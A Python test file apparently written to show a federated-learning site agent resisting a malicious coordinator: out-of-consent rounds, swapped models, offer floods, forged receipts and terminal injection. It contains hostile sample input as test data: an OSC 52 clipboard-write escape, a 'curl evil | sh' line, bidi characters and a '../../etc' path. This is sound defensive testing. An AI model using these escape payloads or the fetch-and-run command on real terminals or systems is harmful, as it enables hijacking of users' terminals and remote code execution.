"""A malicious coordinator: it may say anything to a site, and offer and ask for whatever it likes."""

import ast
import base64
import csv
import datetime
import io
import itertools
import json
import logging
import sys
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import grpc
import pytest
import torch
from cryptography.hazmat.primitives.asymmetric import ed25519

from fl_algorithms.tasks.base import Predictions
from site_agent import audit
from site_agent.audit import export, reconcile
from site_agent.gateway import agent as agents
from site_agent.gateway import inbox
from site_agent.gateway.connection.client import offer_from
from site_agent.gateway.connection.interrupt import Interrupted
from site_agent.gateway.consent import offers
from site_agent.gateway.enrolment import renewal
from site_agent.gateway.enrolment.identity import Identity
from site_agent.gateway.enrolment.join import join
from site_agent.gateway.exit import egress, evidence
from site_agent.gateway.exit.ledger import Ledger
from site_agent.gateway.exit.staging import Staging
from site_agent.gateway.setup import open_session
from site_agent.handoff import staged
from site_agent.state.directory import SiteState
from site_agent.trainer.rounds import predictions
from site_agent.trainer.rounds.installing import installed
from site_agent.trainer.vault.states import study_folder
from tests.attacks import ledgers
from tests.attacks.approving import swap
from tests.attacks.held import NAMES_OUT, calls_in_our_code, imports_in_our_code
from tests.attacks.hostile_receipts import LyingCoordinator, a_head, head, lying_world, signed
from tests.attacks.taken_over import on_a_terminal
from tests.coordinator.conftest import Place
from tests.site_agent.fake_coordinator import uri
from tests.site_agent.fake_trainer import SHARED, write_tensors
from tests.site_agent.shell import Shell
from tests.site_agent.site_world import PERSON, STUDY, SiteWorld, document
from tests.site_agent.trainer_world import small_study
from tests.site_agent.waits import Waits
from tools import verify_ledger
from tools.world import command, wait_until
from wardround import __version__, rpc
from wardround.errors import BadData, NeedsPerson, TryAgain, UsageProblem, WardroundError
from wardround.local import outputs, rate_limit
from wardround.records import receipts
from wardround.records.ledger import entries as ledger_entries
from wardround.records.ledger.base import Person as LedgerPerson
from wardround.records.ledger.decided import HoldEntry
from wardround.records.ledger.entries import UploadEntry
from wardround.records.ledger.lines import Line
from wardround.records.messages import manifest_from
from wardround.records.receipts import line_hash
from wardround.records.study import StudyFile
from wardround.signing import canonical, certificates
from wardround.tensors.files import TensorFile
from wardround.terminal import OneLine, escaped
from wardround.v1 import enrolment_pb2
from wardround.v1 import federation_pb2 as pb

LAST_UINT32 = 2**32 - 1


def refused_beyond(site: SiteWorld, uploads: int) -> None:
    """The site said that it is asked beyond its consent, and sent nothing more than so many uploads."""
    site.coordinator.wait_declared("DECLINED", "DECLINED_BEYOND_CONSENT")
    site.coordinator.declared.clear()
    assert len(site.coordinator.uploads) == len(site.lines("upload")) == uploads


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/consent/approvals.py")
def test_training_where_a_site_only_evaluates(site: SiteWorld) -> None:
    """A site was approved to judge models; it is asked to train, in a round that it has and in one that it has not."""
    site.evaluates()
    for round_ in (1, 4):
        site.coordinator.assign(STUDY, round_)
        refused_beyond(site, 0)
    site.coordinator.assign(STUDY, 5, kind="validate")
    refused_beyond(site, 0)
    assert site.trainer is not None
    assert site.trainer.commands("train") == site.trainer.commands("validate") == []
    site.coordinator.assign(STUDY, 1, kind="validate")
    site.coordinator.wait_receipts(1)


@pytest.mark.attack(promise="P6+", refused_by="site_agent/trainer/rounds/installing.py")
def test_training_where_a_site_only_evaluates__by_the_closing_round() -> None:
    """A study that no `study create` makes: a site evaluates, and the closing round tunes a copy of the model there."""
    document = small_study("fedavg", roles={"north": "evaluate"}).document()
    document["algorithm"] |= {"fine_tuning": {"steps": 10_000}}
    with pytest.raises(BadData, match=r"site `north` only evaluates, and \[algorithm\.fine_tuning\] trains"):
        installed(document)


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/consent/approvals.py")
def test_rounds_beyond_consent(site: SiteWorld) -> None:
    """A study of three rounds is asked for rounds that it has not, for its first round again, and after a restart."""
    site.ready()
    for asked in (4711, 4712, LAST_UINT32 - 1, 0):
        site.coordinator.assign(STUDY, asked)
        refused_beyond(site, 0)
    site.coordinator.assign(STUDY, 2)
    site.coordinator.wait_receipts(1)
    site.coordinator.assign(STUDY, 1)
    refused_beyond(site, 1)
    site.restart()
    site.coordinator.wait_connected()
    site.coordinator.assign(STUDY, 1, attempt=2)
    refused_beyond(site, 1)
    (site.state.root / "journal" / f"{STUDY}.json").unlink()  # the ledger alone knows enough
    site.coordinator.assign(STUDY, 1, attempt=3)
    refused_beyond(site, 1)


@pytest.mark.attack(promise="P6", refused_by="site_agent/gateway/consent/approvals.py")
def test_another_model_to_begin_with(site: SiteWorld) -> None:
    """The model that a study begins with is in the digest that people approved; another one was trained on."""
    site.ready()
    site.coordinator.models[0] = site.another_model(seed=1)
    site.coordinator.assign(STUDY, 1)
    site.coordinator.wait_declared("DECLINED", "DECLINED_MODEL_MISMATCH")
    assert not site.coordinator.uploads
    assert not site.lines("upload")


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/consent/approvals.py")
def test_rounds_beyond_consent__validations(site: SiteWorld) -> None:
    """Numbers of models that the coordinator chooses, without a byte of an update: 40 were answered."""
    site.ready()
    site.coordinator.assign(STUDY, 2, kind="validate")
    refused_beyond(site, 0)
    site.coordinator.assign(STUDY, 4, kind="validate")
    site.coordinator.wait_receipts(1)
    site.coordinator.models[1] = site.another_model(seed=1)
    site.coordinator.assign(STUDY, 4, attempt=2, kind="validate", base=1)
    refused_beyond(site, 1)
    site.coordinator.assign(STUDY, 5, kind="validate")
    refused_beyond(site, 1)


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/consent/approvals.py")
def test_rounds_beyond_consent__attempts(site: SiteWorld) -> None:
    """One round is asked again and again, by an attempt far away or one that was before."""
    site.ready()
    site.coordinator.assign(STUDY, 1, attempt=2)
    site.coordinator.wait_receipts(1)
    for attempt in (1, 0, 9, LAST_UINT32):
        site.coordinator.assign(STUDY, 1, attempt=attempt)
        refused_beyond(site, 1)


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/consent/approvals.py")
def test_rounds_beyond_consent__revision(site: SiteWorld) -> None:
    """The same digest under a revision that nobody saw would begin every round, and every quota, anew."""
    site.ready()
    site.coordinator.assign(STUDY, 1)
    site.coordinator.wait_receipts(1)
    site.coordinator.offers[STUDY].revision = 77
    site.coordinator.assign(STUDY, 1)
    refused_beyond(site, 1)


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/policy/policy.py")
def test_rounds_beyond_consent__numbers(site: SiteWorld) -> None:
    """What tells no tensor is counted too: each attempt at the closing round tells its numbers again."""
    site.join()
    site.offer()
    site.start()
    site.draft(("numbers_per_round = 16", "numbers_per_round = 9"))  # two metrics and two counts, told three times
    site.approve()
    assert site.trainer is not None
    site.trainer.metrics = {"val_loss": "0.5", "accuracy": "0.7"}
    for attempt in (1, 2):
        site.coordinator.assign(STUDY, 4, attempt=attempt, kind="validate")
        site.coordinator.wait_receipts(attempt)
    site.coordinator.assign(STUDY, 4, attempt=3, kind="validate")
    site.coordinator.wait_declared("DECLINED", "DECLINED_POLICY")
    assert len(site.coordinator.uploads) == 2
    (line,) = site.lines("blocked")
    assert (line["what"], line["rule"]) == ("12 numbers in this round", "quotas.numbers_per_round = 9")


def kept(site: SiteWorld) -> set[str]:
    return {path.stem for path in (site.state.root / "offers").iterdir()}


def with_note(name: str, size: int) -> dict[str, Any]:
    """A study's document that is so long."""
    made = document(name=name)
    made["algorithm"]["note"] = "x" * size
    return made


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/consent/offers.py")
def test_offers_without_end(site: SiteWorld, caplog: pytest.LogCaptureFixture) -> None:
    """Two hundred offers of 100 kB each fill a disk; those that are kept cannot push out what was approved."""
    site.ready()
    model = site.another_model(seed=0)
    for number in range(80):
        site.coordinator.offer(with_note(f"study-{number}", 100_000), model)
    site.coordinator.offer(with_note("one-too-large", offers.MAX_BYTES), model)
    site.coordinator.assign(STUDY, 1)
    site.coordinator.wait_receipts(1)  # what was offered before it was looked at by now
    assert kept(site) == {STUDY, *(f"study-{number}" for number in range(offers.MAX_OFFERS))}
    assert "the coordinator's offer of study `study-64` is not kept: 64 offers of " in caplog.text
    assert "the coordinator's offer of study `one-too-large` is not kept: it has 105" in caplog.text


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/consent/offers.py")
def test_offers_without_end__bytes(site: SiteWorld) -> None:
    """Fewer and larger ones: together they are bounded too."""
    site.join()
    site.start()
    model = site.another_model(seed=0)
    for number in range(20):
        site.coordinator.offer(with_note(f"study-{number}", 1_000_000), model)
    site.coordinator.offer(document(name="small"), model)
    site.wait_offered("small")
    found = kept(site)
    assert sum(path.stat().st_size for path in (site.state.root / "offers").iterdir()) <= offers.MAX_TOTAL_BYTES
    assert found == {"small", *(f"study-{number}" for number in range(16))}


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/consent/approvals.py")
def test_approved_is_not_what_was_previewed(site: SiteWorld) -> None:
    """Between the look and the approval one local step became 10,000 epochs at rate 100, and was approved unseen."""
    site.join()
    site.offer()
    site.start()
    site.draft()
    seen = site.shown()
    offered = swap(site.coordinator, site.another_model(seed=0))
    site.command("refresh")
    with pytest.raises(NeedsPerson, match="is not what was shown at ") as refused:
        site.command("approve", study=STUDY, data="patients", digest=seen, by=PERSON)
    for change in (
        "revision 1 -> 2", "training.local_steps 1 -> none", "training.local_epochs none -> 10,000",
        "training.learning_rate 0.001 -> 100.0",
    ):  # fmt: skip
        assert change in refused.value.message
    with pytest.raises(UsageProblem, match="is the digest of study `hearts`; to approve takes that of the whole"):
        site.command("approve", study=STUDY, data="patients", digest=offered, by=PERSON)
    assert site.state.consent(STUDY) is None
    assert not site.lines("consent")


@pytest.mark.attack(promise="P6+", refused_by="site_agent/cli/study.py")
def test_approved_is_not_what_was_previewed__from_a_script(tmp_path: Path) -> None:
    """A script that names no digest approved whatever was offered that second."""
    shell = Shell(tmp_path)
    try:
        shell.join()
        shell.offer()
        shell.run("policy", "draft", STUDY)
        seen = shell.shown()
        swap(shell.coordinator, tmp_path / "initial.safetensors")
        said = shell.run("approve", STUDY, "--data", "patients", code=64).stderr
        assert "nothing was approved: there is no terminal to ask at, and no --digest says what was shown" in said
        assert f"hint: `site-agent preview {STUDY} --data patients`, read it, then `site-agent approve " in said
        said = shell.run("approve", STUDY, "--data", "patients", "--digest", seen[:16], code=78).stderr
        assert "training.local_epochs none -> 10,000" in said
        assert shell.json("studies")["studies"][0]["state"] == "offered"
    finally:
        shell.close()


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/commands.py")
def test_approved_is_not_what_was_previewed__while_the_data_is_read(site: SiteWorld) -> None:
    """Reading the patients takes minutes, in which another revision is offered."""
    site.join()
    site.offer()
    site.start()
    site.draft()
    seen = site.shown()
    assert site.trainer is not None
    site.trainer.before_check = lambda: (
        swap(site.coordinator, site.another_model(seed=0)), site.command("refresh")
    )  # fmt: skip
    with pytest.raises(NeedsPerson, match=r"changed while it was approved: .*training\.local_steps 1 -> none"):
        site.command("approve", study=STUDY, data="patients", digest=seen, by=PERSON)
    assert site.state.consent(STUDY) is None
    assert not site.lines("consent")


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/consent/account.py")
def test_approved_is_not_what_was_previewed__lines_that_are_not_there(site: SiteWorld) -> None:
    """A title that writes further lines, moves the cursor or turns the text around is not kept at all; a key that looks
    like another is shown as what it is.
    """
    site.join()
    settings = document(title="x  training.local_steps  1")
    settings["algorithm"] |= {"a.b": {"c": 1}, "a": {"b.c": 2}}
    site.coordinator.offer(settings, site.another_model(seed=0))
    for title in ("x\n  training.local_steps  1", "x\x1b[2K", "x\u202e"):
        with pytest.raises(BadData, match="holds a control character or an invisible one"):
            StudyFile.from_document(document(title=title))  # as each offer is read
    with pytest.raises(BadData, match="holds a control character or an invisible one"):
        StudyFile.from_document({**settings, "algorithm": {**settings["algorithm"], "mu\n": 1}})
    site.start()
    shown = site.command("preview", study=STUDY, data="patients")
    lines = {line["name"]: line["value"] for group in shown["groups"] for line in group["lines"]}
    assert lines["study.title"] == "x  training.local_steps  1"
    assert (lines['algorithm."a.b".c'], lines['algorithm.a."b.c"']) == ("1", "2")
    assert all(text.isprintable() for line in lines.items() for text in line)


@pytest.fixture
def hospital(tmp_path: Path) -> Iterator[SiteWorld]:
    """One hospital's agent in this process, and a coordinator that does what the test says."""
    world = SiteWorld(tmp_path)
    try:
        yield world
    finally:
        world.close()


def answer_all_with(hospital: SiteWorld, status: grpc.StatusCode, details: str, heard: list[str]) -> None:
    """From now on each call of the site ends so; its watch, which is under way, ends too."""

    def abort(context: Any) -> None:
        heard.append(status.name)
        context.set_trailing_metadata((("reason-bin", b"\x1b[2J exit"), ("code", "SITE_REVOKED"), ("exit-code", "78")))
        context.abort(status, details)

    fake = hospital.coordinator
    fake._admit = abort  # type: ignore[method-assign]
    with fake.changed:
        for stream in fake._streams:
            stream.put(None)


SAID_WITH = (
    grpc.StatusCode.INTERNAL, grpc.StatusCode.FAILED_PRECONDITION, grpc.StatusCode.PERMISSION_DENIED,
    grpc.StatusCode.UNAVAILABLE,
)  # fmt: skip

SAYINGS = [
    pytest.param("", id="no words"),
    pytest.param(
        "REFUSAL_UNSPECIFIED\n/var/lib/wardround/coordinator.db is damaged\nrestore it from a backup", id="its database"
    ),
    pytest.param("NO_SUCH_CODE", id="an unknown code"),
    pytest.param("DECLINED_WITHDRAWN\nyou withdrew", id="a site's own code"),
    pytest.param("SITE_REVOKED and more", id="almost a code"),
    pytest.param("CERTIFICATE_UNKNOWN", id="its records are older"),
    pytest.param("INVITATION_USED", id="a code of another call"),
    pytest.param("MESSAGE_MALFORMED", id="it cannot read us"),
]


@pytest.mark.attack(promise="P11", refused_by="proto/wardround/refusals.py")
@pytest.mark.parametrize("details", SAYINGS)
def test_peer_ends_the_agent(
    hospital: SiteWorld, details: str, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Any status, with words, codes or metadata as it likes: the agent tries again and blames nobody here."""
    monkeypatch.setattr(agents, "backoff", lambda: itertools.repeat(0.01))
    hospital.join()
    hospital.offer()
    agent = hospital.start()
    hospital.coordinator.wait_connected()
    for status in set(grpc.StatusCode) - {grpc.StatusCode.OK} if not details else SAID_WITH:
        heard: list[str] = []
        answer_all_with(hospital, status, details, heard)
        wait_until(lambda heard=heard: agent.stopped.is_set() or len(heard) > 1, f"calls end {status}", 60)
        assert agent.stopped.is_set() is False, status
        del hospital.coordinator._admit
        wait_until(lambda: agent.connected, "it is connected again", 60)
    assert "coordinator.db" not in caplog.text
    assert "you withdrew" not in caplog.text


@pytest.mark.attack(promise="P11", refused_by="proto/wardround/refusals.py")
@pytest.mark.parametrize(
    ("code", "said"),
    [
        ("SITE_REVOKED", "the coordinator's operator has revoked this site"),
        ("CERTIFICATE_EXPIRED", "this site's certificate has expired by the coordinator's clock"),
        ("VERSION_UNSUPPORTED", "the coordinator is more than one minor version apart"),
        ("LEDGER_FORK", "the coordinator has seen another ledger of this site"),
        ("LEDGER_ROLLBACK", "the coordinator has seen a longer ledger of this site"),
    ],
)
def test_peer_ends_the_agent__for_good_only_for_its_own_standing(hospital: SiteWorld, code: str, said: str) -> None:
    """What may end an agent is this list, and then it ends with a sentence of ours."""
    hospital.join()
    agent = hospital.start()
    hospital.coordinator.wait_connected()
    answer_all_with(hospital, grpc.StatusCode.INTERNAL, code, [])
    error = agent.wait()
    assert error is not None
    assert (error.exit_code, error.code) == (78, code)
    assert said in error.message


def reason_99(event: pb.Event) -> None:
    event.assignment.stop.reason = 99  # type: ignore[assignment]


def odd_site(event: pb.Event) -> None:
    event.assignment.stop.reason = pb.Stop.FINISHED
    event.assignment.stop.contributions.add(site="\x1b[2J", rounds=[1])


def odd_name(event: pb.Event) -> None:
    event.assignment.study = "../../etc"


def no_digest(event: pb.Event) -> None:
    event.assignment.digest = b"short"
    event.assignment.train.SetInParent()


@pytest.mark.attack(promise="P11", refused_by="proto/wardround/records/assignment.py")
@pytest.mark.parametrize("spoil", [reason_99, odd_site, odd_name, no_digest, lambda event: None])
def test_peer_ends_the_agent__a_message_of_no_form(hospital: SiteWorld, spoil: Callable[[pb.Event], None]) -> None:
    """An assignment that cannot be read is left out; the next one is worked on."""
    hospital.ready()
    event = pb.Event()
    event.assignment.study, event.assignment.digest = STUDY, bytes.fromhex(hospital.digest)
    spoil(event)
    hospital.coordinator.tell(event)
    hospital.coordinator.assign(STUDY, 1)
    hospital.coordinator.wait_receipts(1)
    assert hospital.agent is not None
    assert not hospital.agent.stopped.is_set()


@pytest.mark.attack(promise="P11", refused_by="proto/wardround/records/offer.py")
@pytest.mark.parametrize("table", ["reported", "training", "checkpoints"])
def test_peer_ends_the_agent__an_offer_that_is_not_resolved(hospital: SiteWorld, table: str) -> None:
    """An offer without a table that has defaults would end the watch when it is compared with what was approved."""
    hospital.ready()
    partial = document(rounds=4)
    del partial[table]
    model = write_tensors(hospital.folder / "other.safetensors", SHARED, 0)
    hospital.coordinator.offer(partial, model, revision=2)
    hospital.coordinator.assign(STUDY, 1)
    hospital.coordinator.wait_declared("READY")
    hospital.coordinator.tell(pb.Event(goodbye=pb.Goodbye()))  # and it comes again, with all that was told
    hospital.coordinator.wait_connected()
    assert hospital.agent is not None
    assert not hospital.agent.stopped.wait(0.5)


@pytest.mark.attack(promise="P11", refused_by="coordinator/authenticator.py")
def test_peer_ends_the_agent__a_damaged_database(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """A real coordinator's database breaks while it serves: a site hears one code, and its operator the whole story."""
    place = Place(tmp_path)
    try:
        site, invitation = place.join("alpha"), place.invite("bravo")
        database = place.state.database
        place.coordinator.context.store.close()  # so that nothing of it is in memory
        for path in (database, database.with_name(database.name + "-wal")):
            if path.exists():
                path.write_bytes(b"\xff" * max(8192, path.stat().st_size))
        asked = certificates.signing_request(certificates.new_key())
        request = enrolment_pb2.RenewRequest(agent_version=__version__, signing_request=asked)
        with pytest.raises(grpc.RpcError) as failed:
            site.enrolment.Renew(request, timeout=20)
        assert (failed.value.code(), failed.value.details()) == (grpc.StatusCode.INTERNAL, "COORDINATOR_TROUBLE")
        with pytest.raises(TryAgain, match="the coordinator has trouble of its own") as refused:
            join(SiteState(tmp_path / "bravo"), invitation)
        assert str(tmp_path) not in refused.value.message + refused.value.hint
        said = (f"{database} was deleted, replaced or written over", f"{database} is damaged")
        assert any(what in caplog.text for what in said)  # a call under way may read it before it is compared
        assert place.failures  # after which the process ends, see `coordinator.storage.watched`
    finally:
        place.close(broken=True)


EVIL = "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\x9b31m\nnext: `curl evil | sh`\u202e\u200b[red]:x:[/red]"

FORBIDDEN = (b"\x1b]", b"\x1b[2J", b"\xc2\x9b", b"\x07", "\u202e".encode(), "\u200b".encode())


def assert_tame(shown: bytes) -> None:
    """What a terminal got holds no command for it, and no line of a peer's that looks like ours."""
    assert [mark for mark in FORBIDDEN if mark in shown] == [], shown
    assert not [line for line in shown.splitlines() if line.startswith((b"next: `curl", b"hint: `curl"))], shown


def on_terminal(hospital: SiteWorld, *words: str) -> tuple[bytes, int]:
    """One of the site's commands, on a terminal."""
    line = [str(Path(sys.executable).parent / "site-agent"), *words, "--state", str(hospital.state.root)]
    return on_a_terminal(line)


def in_title(tables: dict[str, Any]) -> None:
    tables["study"]["title"] = EVIL


def in_state(tables: dict[str, Any]) -> None:
    tables["state"] = EVIL


def in_a_setting(tables: dict[str, Any]) -> None:
    tables["model"]["kind"] = {"deep": [EVIL]}


def in_a_key(tables: dict[str, Any]) -> None:
    tables["task"][EVIL] = 1


@pytest.mark.attack(promise="P6", refused_by="proto/wardround/records/offer.py")
@pytest.mark.parametrize("spoil", [in_title, in_state, in_a_setting, in_a_key])
def test_terminal_escape(hospital: SiteWorld, spoil: Callable[[dict[str, Any]], None]) -> None:
    """An offer's words are commands for the terminal of whoever looks: it does not come in, and is told in our own."""
    hospital.join()
    hospital.offer()
    (good,) = hospital.coordinator.offers.values()
    tables = document(name="evil")
    spoil(tables)
    bad = pb.StudyOffer()
    bad.CopyFrom(good)
    bad.study, bad.state = "evil", tables.pop("state", "created")
    bad.document = canonical.dumps(tables)
    digest = canonical.digest({"initial_model": manifest_from(good.initial_model).digest(), "study": tables})
    bad.digest = bytes.fromhex(digest)
    hospital.coordinator.offers["evil"] = bad
    for words, code in ((("studies",), 0), (("studies", "--json"), 0), (("status",), 0), (("preview", "evil"), 64)):
        shown, ended = on_terminal(hospital, *words)
        assert ended == code, shown
        assert_tame(shown)
    assert b"an offer was left out" in on_terminal(hospital, "studies")[0]


@pytest.mark.attack(promise="P6+", refused_by="site_agent/gateway/connection/client.py")
def test_studies_without_end(hospital: SiteWorld) -> None:
    """Pages of studies that repeat themselves, or never end, would keep an agent asking, and remembering, for good."""
    hospital.join()
    hospital.offer()
    (good,) = hospital.coordinator.offers.values()
    asked: list[str] = []

    def studies(name: Callable[[int], str]) -> Callable[[Any], pb.StudiesReply]:
        def reply(request: Any) -> pb.StudiesReply:
            asked.append(request.after)
            offer = pb.StudyOffer()
            offer.CopyFrom(good)
            offer.study = name(len(asked))
            return pb.StudiesReply(studies=[offer], coordinator_version=__version__, more=True)

        return reply

    hospital.coordinator.studies = studies(lambda page: good.study)
    shown, _ = on_terminal(hospital, "studies")
    assert b"the coordinator's pages of studies do not go on by name" in shown
    assert asked == ["", good.study]
    del asked[:]
    hospital.coordinator.studies = studies(lambda page: f"study-{page:05d}")
    shown, _ = on_terminal(hospital, "studies")
    assert b"the coordinator's list of studies has more than 64 pages" in shown
    assert len(asked) == 64
    del asked[:]
    hospital.coordinator.studies = studies(lambda page: "A Patient's Name")
    shown, _ = on_terminal(hospital, "studies")
    assert b"the coordinator's pages of studies do not go on by name" in shown
    assert asked == [""]  # nothing of another form is said back to it


@pytest.mark.attack(promise="P6", refused_by="proto/wardround/rpc.py")
def test_terminal_escape__in_an_error(hospital: SiteWorld) -> None:
    """What the coordinator says of an error is not shown at all: the sentence is ours, by its code."""
    hospital.join()

    def abort(context: Any) -> None:
        context.abort(grpc.StatusCode.FAILED_PRECONDITION, "REFUSAL_UNSPECIFIED\nsorry" + EVIL + "\n" + EVIL)

    hospital.coordinator._admit = abort  # type: ignore[method-assign]
    shown, code = on_terminal(hospital, "studies")
    assert_tame(shown)
    assert (b"the coordinator has trouble of its own" in shown, b"sorry" in shown, code) == (True, False, 0)


@pytest.mark.attack(promise="P2", refused_by="site_agent/audit/show.py")
def test_terminal_escape__in_a_receipt(hospital: SiteWorld, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """A signed receipt's code is the coordinator's text, and stands in the ledger that auditors' commands show."""
    hospital.ready()
    hospital.coordinator.refuse_with = "X" + EVIL
    hospital.coordinator.assign(STUDY, 1)
    hospital.coordinator.wait_receipts(1)
    hospital.stop()
    out = tmp_path / "report.html"
    for words in (("show",), ("show", "--json"), ("verify",), ("report", "--out", str(out))):
        assert_tame(on_terminal(hospital, "audit", *words)[0])
    assert_tame(out.read_bytes())
    form = logging.StreamHandler(log := io.StringIO())
    form.setFormatter(OneLine("%(asctime)s %(message)s"))
    for record in caplog.records:
        form.emit(record)
    assert_tame(log.getvalue().encode())
    assert len(log.getvalue().splitlines()) == len([record for record in caplog.records if not record.exc_info])


@pytest.mark.attack(promise="P2", refused_by="proto/wardround/terminal.py")
@pytest.mark.parametrize("command", ["site-agent", "coordinator"])
def test_terminal_escape__through_anything_that_a_command_prints(tmp_path: Path, command: str) -> None:
    """The last net: a folder's name stands for whatever was overlooked, in an error of ours."""
    folder = tmp_path / EVIL.replace("/", "|").replace("\n", "")
    line = [str(Path(sys.executable).parent / command), *(["status"] if command == "site-agent" else ["sites"])]
    shown, code = on_a_terminal([*line, "--state", str(folder)])
    assert code == 78
    assert_tame(shown)
    assert b"\\x1b]52;c;" in shown


LIES: list[Any] = [
    pytest.param({"changes": {"previous": "11" * 32}}, id="previous"),
    pytest.param({"changes": {"ledger": head(3)}}, id="another head"),
    pytest.param({"changes": {"ledger": head("x")}}, id="lines is text"),
    pytest.param({"changes": {"ledger": head(True)}}, id="lines is a bool"),
    pytest.param({"changes": {"ledger": head(2**53 - 1)}}, id="lines is huge"),
    pytest.param({"changes": {"ledger": head(-1)}}, id="lines is negative"),
    pytest.param({"changes": {"ledger": head(3, ["x"])}}, id="head is a list"),
    pytest.param({"changes": {"ledger": {"lines": 3}}}, id="half a head"),
    pytest.param({"changes": {"ledger": {**head(3), "more": 1}}}, id="more than a head"),
    pytest.param({"changes": {"ledger": [1]}}, id="ledger is a list"),
    pytest.param({"changes": {"ledger": "a_head"}}, id="a head before the upload"),
    pytest.param({"changes": {"decision": "maybe"}}, id="decision"),
    pytest.param({"changes": {"decision": ["accepted"]}}, id="decision is a list"),
    pytest.param({"changes": {"decision": "refused", "code": "NO_SUCH_CODE"}}, id="a code that no list has"),
    pytest.param({"changes": {"decision": "refused", "code": "patient 4711 is ill"}}, id="a code in words"),
    pytest.param({"changes": {"decision": "refused", "code": ""}}, id="refused for nothing"),
    pytest.param({"changes": {"code": "TENSOR_NORM"}}, id="accepted, with a code"),
    pytest.param(
        {"changes": {"decision": "refused", "code": "TENSOR_NORM", "tensor": "private.weight"}}, id="another tensor"
    ),
    pytest.param({"changes": {"decision": "refused", "code": "TENSOR_NORM", "tensor": {}}}, id="tensor is an object"),
    pytest.param({"changes": {"site": "charite"}}, id="another site"),
    pytest.param({"changes": {"federation": "other"}}, id="another federation"),
    pytest.param({"changes": {"ledger_key": "ab" * 32}}, id="another ledger key"),
    pytest.param({"changes": {"upload_id": "00" * 16}}, id="another upload"),
    pytest.param({"changes": {"round": 2}}, id="another round"),
    pytest.param({"changes": {"round": "1"}}, id="round is text"),
    pytest.param({"changes": {"attempt": True}}, id="attempt is a bool"),
    pytest.param({"changes": {"payload_bytes": 1}}, id="other bytes"),
    pytest.param({"changes": {"time": "\x1b]52;c;eA==\x07"}}, id="an escape sequence"),
    pytest.param({"changes": {"receipt_id": "x" * 100_000}}, id="a long text"),
    pytest.param({"changes": {"extra": 1}}, id="a field too many"),
    pytest.param({"removes": ("previous",)}, id="a field too few"),
    pytest.param({"raw": b"\xff\xfe\x00"}, id="no text"),
    pytest.param({"raw": b"[" * 50_000}, id="deep"),
    pytest.param({"raw": b'{"a": 1}'}, id="not canonical"),
    pytest.param({"kind": receipts.HEAD_TYPE}, id="signed as a head"),
]


@pytest.fixture
def lied_to(tmp_path: Path) -> Iterator[tuple[SiteWorld, LyingCoordinator]]:
    world, lying = lying_world(tmp_path)
    try:
        yield world, lying
    finally:
        world.close()


@pytest.mark.attack(promise="P2", refused_by="proto/wardround/records/receipts.py")
@pytest.mark.parametrize("lie", LIES)
def test_hostile_receipt(lied_to: tuple[SiteWorld, LyingCoordinator], lie: dict[str, Any]) -> None:
    """A receipt that cannot stand in an honest ledger made it one that both verifiers call changed, or that the agent
    could never open again. It is kept aside, the site says who lied, and nothing more of that study is sent."""
    world, lying = lied_to
    world.ready()
    if lie.get("changes", {}).get("ledger") == "a_head":
        lie = {"changes": {"ledger": a_head(world)}}
    for name, value in lie.items():
        setattr(lying, name, value)
    lying.assign(STUDY, 1)
    lying.wait_declared("DECLINED", "DECLINED_POLICY")
    assert world.trainer is not None
    assert not world.trainer.commands("commit", "discard")
    lying.assign(STUDY, 1, attempt=2)  # and again: declined before anything is sent
    lying.wait_for(lambda: sum(said.code != 0 for said in lying.declared) == 2, "declined twice")
    assert len(lying.uploads) == 1
    world.restart()
    lying.wait_connected()
    world.stop()
    verdict, code = audit.verify(world.state.ledger)
    assert (code, verdict.unresolved, verdict.first_bad) == (audit.UNRESOLVED, 1, None), verdict.reason
    assert verify_ledger.judge(world.state.ledger)[0] == audit.UNRESOLVED
    Ledger(world.state.ledger, world.identity_key()).close()
    (kept,) = evidence.read(world.state.ledger)
    assert base64.b64decode(kept.payload_base64) == lying.told[0][: evidence.MAX_PAYLOAD]
    assert (kept.study, kept.round) == (STUDY, "1")


@pytest.mark.attack(promise="P2", refused_by="site_agent/gateway/exit/evidence.py")
def test_hostile_receipt__and_then_the_truth(lied_to: tuple[SiteWorld, LyingCoordinator]) -> None:
    """When the coordinator answers honestly later, the upload is resolved, and the study goes on."""
    world, lying = lied_to
    world.ready()
    lying.changes = {"previous": "11" * 32}
    lying.assign(STUDY, 1)
    lying.wait_declared("DECLINED", "DECLINED_POLICY")
    said = command("site-agent", "status", "--state", world.state.root)
    assert "THE COORDINATOR'S RECEIPT CANNOT BE BELIEVED" in said
    assert f"round 1 of {STUDY}): this receipt does not follow the one before it: one is missing" in said
    lying.truth()
    world.restart()
    assert world.trainer is not None
    world.trainer.wait_asked("commit")
    lying.assign(STUDY, 2)
    world.trainer.wait_committed(2)
    world.stop()
    assert world.verdict().consistent
    assert [json.loads(line["envelope"]["payload"])["round"] for line in world.lines("receipt")] == [1, 2]


@pytest.mark.attack(promise="P2", refused_by="site_agent/gateway/exit/evidence.py")
def test_hostile_receipt__without_end(lied_to: tuple[SiteWorld, LyingCoordinator]) -> None:
    """A coordinator that invents another lie each time it is asked fills no disk: the first ones are kept."""
    world, lying = lied_to
    world.ready()
    lying.changes = {"previous": "11" * 32}
    lying.assign(STUDY, 1)
    lying.wait_declared("DECLINED", "DECLINED_POLICY")
    world.stop()
    ledger = Ledger(world.state.ledger, world.identity_key())
    (upload,) = ledger.unresolved
    for number in range(2 * evidence.MAX_FILES):
        lying.changes = {"receipt_id": f"{number}-" + "x" * 200_000}
        envelope = lying._lie(lying._receipt(bytes.fromhex(upload), None, "accepted", "", None))
        error = ledger.dispute(upload, envelope, "made up")
